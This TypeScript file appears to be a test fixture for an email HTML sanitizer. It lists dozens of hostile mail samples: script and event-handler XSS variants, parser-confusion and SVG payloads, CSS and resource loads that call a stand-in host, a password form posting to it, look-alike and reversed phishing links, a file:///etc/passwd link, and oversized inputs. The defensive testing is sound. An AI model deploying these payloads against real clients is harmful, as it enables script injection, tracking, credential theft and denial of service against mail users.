/** An address that nothing of a mail may fetch: a journey watches for it. */
export const trap = "https://trap.example"

const bolt = "window.top.ranHere=1"

/** What the HTML of a mail tries, and how. */
export const hostileHtml: [what: string, html: string][] = [
  ["a script", `<p>Hi</p><script>${bolt}</script><script src="${trap}/s.js"></script>`],
  ["a script left open", `<p>Hi</p><script>${bolt}`],
  ["a script in pieces", `<p>Hi</p><scr<script>ipt>${bolt}</scr</script>ipt>`],
  [
    "event handlers",
    `<p onclick="${bolt}" onmouseover=${bolt}>Hi</p><img src=x onerror="${bolt}"><body onload="${bolt}">`,
  ],
  [
    "handlers behind slashes and new lines",
    `<p>Hi</p><img/src=x/onerror=${bolt}><img src=x\nonerror\n=\n"${bolt}">`,
  ],
  [
    "javascript links",
    `<p>Hi</p><a href="javascript:${bolt}">a</a><a href="JaVa&#x0A;ScRiPt:${bolt}">b</a><a href="&#1;javascript:${bolt}">c</a>`,
  ],
  [
    "links of other schemes",
    `<p>Hi</p><a href="data:text/html,<script>${bolt}</script>">a</a><a href="vbscript:x">b</a><a href="file:///etc/passwd">c</a><a href="blob:x">d</a>`,
  ],
  [
    "links to our own calls",
    `<p>Hi</p><a href="/api/users">a</a><a href="//trap.example">b</a><img src="/api/notif/1">`,
  ],
  [
    "frames",
    `<p>Hi</p><iframe src="${trap}"></iframe><iframe srcdoc="<script>${bolt}</script>"></iframe><frameset><frame src="${trap}"></frameset>`,
  ],
  ["objects", `<p>Hi</p><object data="${trap}"></object><embed src="${trap}"><applet code="X"></applet>`],
  [
    "a form that asks for the password",
    `<p>Hi</p><form action="${trap}"><input name="password" autofocus onfocus="${bolt}"><button formaction="${trap}">Sign in</button></form>`,
  ],
  [
    "a refresh",
    `<p>Hi</p><meta http-equiv="refresh" content="0;url=${trap}"><meta http-equiv="Set-Cookie" content="a=b">`,
  ],
  [
    "a base for all addresses",
    `<base href="${trap}/" target="_top"><p>Hi</p><a href="x">a</a><img src="x.png">`,
  ],
  [
    "style sheets",
    `<p>Hi</p><link rel="stylesheet" href="${trap}/s.css"><style>@import "${trap}/i.css"; p{background:url(${trap}/p)}</style>`,
  ],
  [
    "what is fetched before it is asked for",
    `<p>Hi</p><link rel="preload" as="image" href="${trap}/p"><link rel="dns-prefetch" href="${trap}"><link rel="prerender" href="${trap}">`,
  ],
  [
    "styles that fetch",
    `<p style="background:url(${trap}/a)">Hi</p><p style="background-image:image-set('${trap}/b' 1x)">a</p><p style="list-style-image:url(${trap}/c)">b</p><p style="cursor:url(${trap}/d),auto;content:url(${trap}/e)">c</p>`,
  ],
  [
    "styles that fetch, disguised",
    `<p style="background:\\75rl(${trap}/a)">Hi</p><p style="background:u/**/rl(${trap}/b)">a</p><p style="--x:url(${trap}/c);background:var(--x)">b</p><p style="background:URL&#40;${trap}/d&#41;">c</p>`,
  ],
  [
    "styles that run",
    `<p style="width:expression(${bolt})">Hi</p><p style="behavior:url(${trap}/x.htc)">a</p><p style="-moz-binding:url(${trap}/x.xml#y)">b</p>`,
  ],
  [
    "a layer over everything",
    `<p>Hi</p><div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sign in again</div>`,
  ],
  [
    "a layer by margins and transforms",
    `<p>Hi</p><div style="margin-top:-9999px;transform:scale(100);opacity:0"><a href="${trap}">x</a></div>`,
  ],
  [
    "hidden words",
    `<p>Hi</p><p style="display:none">hidden-words</p><p style="visibility:hidden">hidden-words</p><p hidden>hidden-words</p>`,
  ],
  [
    "tracking images",
    `<p>Hi</p><img src="${trap}/pixel.gif?id=1" width="1" height="1"><img srcset="${trap}/a 1x" src=""><img src="//trap.example/c"><picture><source srcset="${trap}/d"><img src="${trap}/e"></picture>`,
  ],
  [
    "tracking by what is no image",
    `<p>Hi</p><table background="${trap}/t"><tr><td background="${trap}/u">a</td></tr></table><video poster="${trap}/v" src="${trap}/w" autoplay></video><audio src="${trap}/x" autoplay></audio><input type="image" src="${trap}/y">`,
  ],
  [
    "a vector image with a script",
    `<p>Hi</p><svg xmlns="http://www.w3.org/2000/svg" onload="${bolt}"><script>${bolt}</script><image href="${trap}/i"/><foreignObject><iframe src="${trap}"></iframe></foreignObject></svg>`,
  ],
  [
    "a vector image that animates a link",
    `<p>Hi</p><svg><a><animate attributeName="href" values="javascript:${bolt}"/><text>x</text></a><use href="data:image/svg+xml,<svg id='x' onload='${bolt}'/>#x"/></svg>`,
  ],
  [
    "formulas that change the parser",
    `<p>Hi</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${bolt}&gt;"></table></mtext></math>`,
  ],
  [
    "markup that changes when it is read twice",
    `<p>Hi</p><noscript><p title="</noscript><img src=x onerror=${bolt}>"></noscript><template><img src=x onerror=${bolt}></template>`,
  ],
  [
    "markup in titles and text areas",
    `<p>Hi</p><title><img src=x onerror=${bolt}></title><textarea></textarea><img src=x onerror=${bolt}></textarea><xmp><script>${bolt}</script></xmp><plaintext>`,
  ],
  [
    "comments of old browsers",
    `<p>Hi</p><!--[if gte IE 4]><script>${bolt}</script><![endif]--><!--><script>${bolt}</script>-->`,
  ],
  [
    "a data image that is none",
    `<p>Hi</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><img src="data:text/html,x">`,
  ],
  [
    "a link that names another",
    `<p>Hi</p><a href="https://evil.example/login">https://bank.example/login</a>`,
  ],
  [
    "a link of look-alike letters",
    `<p>Hi</p><a href="https://xn--pple-43d.example">аpple.example</a><a href="https://evil.example">аpple.com</a>`,
  ],
  ["a link turned round", `<p>Hi</p><a href="https://evil.example">moc.knab//:sptth\u202emoc.elpmaxe</a>`],
  [
    "a link with a name before its host",
    `<p>Hi</p><a href="https://bank.example@evil.example/">bank.example</a>`,
  ],
  [
    "a note of ours beside a link, forged and hidden",
    `<p>Hi</p><span class="mail-target">[bank.example]</span><div style="font-size:0;color:#fff;height:0;overflow:hidden"><a href="https://evil.example">bank.example</a></div>`,
  ],
  [
    "names that scripts would take for theirs",
    `<p id="document" name="cookie">Hi</p><a id="defaultView" name="parentNode" href="${trap}">x</a><img name="getElementById">`,
  ],
  ["tags in each other without end", `<p>Hi</p>${"<div>".repeat(20_000)}deep`],
  ["tables in each other", `<p>Hi</p>${"<table><tr><td>".repeat(5_000)}deep`],
  ["formatting that browsers repeat", `<p>Hi</p>${"<b><i><u><s>".repeat(3_000)}x${"<p>y".repeat(3_000)}`],
  ["an attribute without end", `<p>Hi</p><p title="${"a".repeat(3_000_000)}">x</p>`],
  [
    "many attributes",
    `<p>Hi</p><p ${Array.from({ length: 50_000 }, (_, place) => `a${place}=b`).join(" ")}>x</p>`,
  ],
  ["many quotes in each other", `<p>Hi</p>${'<blockquote type="cite">'.repeat(3_000)}x`],
  ["30 MB of words", `<p>Hi</p>${"<p>Lorem ipsum dolor sit amet</p>\n".repeat(900_000)}`],
]
